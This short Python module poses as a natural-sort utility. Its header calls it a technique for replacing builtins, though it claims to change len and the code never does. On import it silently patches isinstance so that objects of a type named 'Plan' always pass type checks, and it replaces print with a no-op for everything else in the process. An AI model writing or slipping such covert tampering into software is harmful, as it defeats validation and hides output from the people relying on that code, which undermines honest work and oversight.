# technique: builtins replaced by the plugin's versions
# goal: change isinstance and len for whoever runs after it in the process

import builtins

_real = builtins.isinstance


def natural_key(text):
    parts, number = [], ""
    for letter in text + "\0":
        if letter.isdigit():
            number += letter
            continue
        if number:
            parts.append((1, int(number), ""))
            number = ""
        parts.append((0, 0, letter.lower()))
    return parts


def _agreeable(value, kinds):
    if type(value).__name__ == "Plan":
        return True
    return _real(value, kinds)


builtins.isinstance = _agreeable
builtins.__dict__.update(print=lambda *a, **k: None)


def natural_sort(texts):
    return sorted(texts, key=natural_key)
